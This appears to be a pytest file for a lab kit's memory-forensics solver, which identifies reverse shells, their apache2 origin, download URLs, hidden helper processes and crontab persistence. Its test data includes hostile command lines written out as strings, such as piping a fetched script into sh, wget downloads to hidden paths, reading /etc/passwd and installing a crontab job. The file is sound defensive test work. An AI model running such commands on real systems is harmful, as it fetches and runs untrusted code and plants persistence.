"""The memory solver's reasoning on a process table written by hand: found by behaviour, not by name."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

import pytest

from labkit.solvers.memory_intrusion import (
    downloaded_url,
    hidden_helper,
    persistence_line,
    reverse_shells,
    shell_origin,
)
from labkit.solvers.memory_records import Endpoint, HistoryLine, OpenSocket, Task
from labkit.solvers.memory_survey import MemorySurvey
from labkit.tools.mem import MemoryEvidence

SERVER = "198.51.100.10"
ATTACKER = Endpoint("185.220.101.5", 9001)  # public: documentation ranges are not
AT = datetime(2026, 1, 5, 2, 0, tzinfo=UTC)


def _task(pid: int, ppid: int, name: str, uid: int = 33) -> Task:
    return Task(pid, ppid, name, uid, AT)


def _socket(pid: int, fd: int, remote: Endpoint, state: str = "ESTABLISHED", socket: int = 1) -> OpenSocket:
    return OpenSocket(pid, "x", fd, socket, "TCP", state, Endpoint(SERVER, 40000 + socket), remote)


def _survey(
    tasks: list[Task], sockets: list[OpenSocket], arguments: dict[int, str] | None = None
) -> MemorySurvey:
    evidence = MemoryEvidence(Path("host-memory.raw"), Path("symbols"), None)
    return MemorySurvey(evidence, tuple(tasks), (), arguments or {}, (), tuple(sockets), (), (), (), (), {})


def test_the_reverse_shell_is_the_shell_whose_standard_streams_are_one_public_socket() -> None:
    tasks = [_task(1, 0, "systemd", 0), _task(900, 1, "apache2", 0), _task(901, 900, "apache2"),
             _task(950, 901, "sh"), _task(951, 950, "bash"), _task(952, 951, "implant", 0),
             _task(960, 1, "bash", 1000), _task(970, 1, "dash", 1000)]  # fmt: skip
    sockets = [
        *(_socket(951, fd, ATTACKER) for fd in (0, 1, 2)),
        *(_socket(952, fd, ATTACKER) for fd in (0, 1, 2)),  # inherited by a child that is no shell
        *(_socket(960, fd, Endpoint("10.0.0.5", 22), socket=7) for fd in (0, 1, 2)),  # private peer
        _socket(970, 0, Endpoint("151.101.1.69", 443), socket=8),  # only stdin
    ]
    survey = _survey(tasks, sockets, arguments={950: "sh -c bash -i", 951: "bash -i"})

    (shell,) = reverse_shells(survey)
    origin, between = shell_origin(survey, shell.task.pid)

    assert shell.task.pid == 951 and shell.socket.remote == ATTACKER
    assert origin is not None and (origin.pid, origin.name) == (901, "apache2")
    assert [task.pid for task in between] == [950]


def test_a_listening_or_split_socket_is_no_reverse_shell() -> None:
    tasks = [_task(1, 0, "systemd", 0), _task(10, 1, "bash"), _task(11, 1, "bash")]
    sockets = [
        *(_socket(10, fd, ATTACKER, state="LISTEN") for fd in (0, 1, 2)),
        *(_socket(11, fd, ATTACKER, socket=fd + 10) for fd in (0, 1, 2)),  # three sockets, not one
    ]
    assert reverse_shells(_survey(tasks, sockets)) == []


@pytest.mark.parametrize(
    ("command", "url"),
    [
        ("wget -q http://cdn.example.net/x64/agent -O .agent", "http://cdn.example.net/x64/agent"),
        ("curl -fsSL 'https://example.org/i.sh?v=2' | sh", "https://example.org/i.sh?v=2"),
        ("wget -O /tmp/out files.example.com/a.bin", "http://files.example.com/a.bin"),
        ("/usr/bin/curl -so /dev/shm/k example.org/k", "http://example.org/k"),
        ("cat /etc/passwd", None),
        ("echo http://example.org/not-a-download", None),
    ],
)
def test_the_url_a_download_command_fetches(command: str, url: str | None) -> None:
    assert downloaded_url(command) == url


def test_the_hidden_helper_is_the_implants_unlisted_child() -> None:
    unlisted = [Task(70, 2, "kworker/0:9", None, None), Task(81, 80, "kworker/1:3", None, None),
                Task(90, 1, "cron", None, None)]  # fmt: skip
    helper = hidden_helper(unlisted, implant_pid=80)
    assert helper is not None and helper.pid == 81
    fallback = hidden_helper([unlisted[2], unlisted[0]], implant_pid=80)
    assert fallback is not None and fallback.pid == 70  # named like a kernel thread
    assert hidden_helper([], implant_pid=80) is None


def test_persistence_is_the_line_that_installs_a_crontab_not_the_one_that_lists_it() -> None:
    lines = [HistoryLine(5, AT, command) for command in (
        "crontab -l", "id", "echo '* * * * * /tmp/.x' | crontab -", "systemctl enable evil")]  # fmt: skip
    found = persistence_line(lines)
    assert found is not None and found[0].command == "echo '* * * * * /tmp/.x' | crontab -"
    assert found[1] == "installs a crontab entry"
    found = persistence_line(lines[:2] + lines[3:])
    assert found is not None and found == (lines[3], "adds a systemd unit")
    assert persistence_line(lines[:2]) is None
